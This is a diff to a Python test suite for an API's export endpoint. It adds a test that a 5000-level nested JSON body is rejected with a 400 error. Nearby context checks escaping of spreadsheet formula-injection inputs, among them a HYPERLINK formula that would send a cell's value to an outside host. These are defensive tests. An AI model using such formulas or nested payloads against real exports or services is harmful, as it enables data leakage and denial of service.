@@ -321,6 +321,17 @@ def test_a_key_holds_a_few_tickets_at_once(server, key):
     assert refused.json()["message"].startswith("Too many export tickets")
 
 
+def test_a_request_nested_too_deeply_is_a_400(server, key):
+    nested = b"[" * 5000 + b"]" * 5000
+    answer = server.http.post(
+        f"{server.base_url}/explorer/exports",
+        data=b'{"endpoint": "links", "request": ' + nested + b"}",
+        headers={**bearer(key), "Content-Type": "application/json"},
+    )
+    assert answer.status_code == 400
+    assert answer.json()["message"].startswith("Request body nests too deeply")
+
+
 def test_text_a_spreadsheet_would_run_as_a_formula_is_escaped():
     for text in ('=HYPERLINK("http://x/?"&A2,"y")', "+1", "-a", "@SUM(1)", "\tx", "\rx"):
         assert cell(text) == "'" + text
